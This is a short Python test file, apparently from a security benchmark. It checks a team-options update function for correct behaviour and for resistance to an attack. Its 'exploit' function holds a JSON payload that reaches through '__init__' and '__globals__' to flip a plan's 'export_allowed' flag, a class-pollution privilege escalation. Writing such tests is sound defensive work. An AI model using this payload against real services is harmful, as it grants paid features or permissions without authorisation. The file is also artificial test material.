import json


def works(code):
    team = code.Team(1, code.PaidPlan("Team"))
    saved = []
    body = '{"colours":{"board":"#00ff00"},"layout":{"start":{"page":"mine"}}}'
    options = code.change_options(team, body, lambda *one: saved.append(one))
    assert options == code.Options(code.Colours("#00ff00"), code.Layout(start={"page": "mine"})) == team.options
    assert json.loads(saved[0][1])["layout"] == {"columns": 3, "start": {"page": "mine"}}
    for body in ("[]", '{"layout":{"columns":99}}', '{"colours":{"card":"red"}}', '"' + "x" * 30_000 + '"'):
        try:
            code.change_options(code.Team(1, code.Plan("Free")), body, lambda *_: None)
        except code.Refused:
            continue
        raise AssertionError(body)
    assert code.may_export(team) is True
    assert code.may_export(code.Team(2, code.Plan("Free"))) is False


FORMS = ('{"__init__": {"__globals__": {"Plan": {"export_allowed": true}}}}',)


def exploit(code, vary=None, payloads=FORMS):
    for body in payloads:
        try:
            code.change_options(code.Team(1, code.Plan("Free")), body, lambda *_: None)
        except code.Refused:
            pass
    return code.may_export(code.Team(2, code.Plan("Free")))
